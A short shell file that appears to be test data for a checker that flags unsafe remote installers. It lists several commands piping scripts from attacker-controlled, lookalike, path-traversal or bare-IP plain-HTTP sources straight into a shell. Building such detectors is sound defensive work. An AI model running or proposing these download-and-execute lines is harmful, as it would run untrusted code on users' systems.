#!/bin/sh
# hosts that serve anyone's files are no known installers: an error in a script
curl -fsSL https://raw.githubusercontent.com/attacker/tools/main/install.sh | bash
#---
curl -fsSL https://deno.land/x/tools/install.sh | sh
#---
curl -fsSL https://raw.githubusercontent.com/Homebrew/install/../../attacker/x/main/i.sh | bash
#---
curl -fsSL https://evil.example.rustup.rs/install.sh | sh
#---
# a comment does not make a fetch from an address or over plain HTTP honest
# curl -s http://203.0.113.7/x | sh
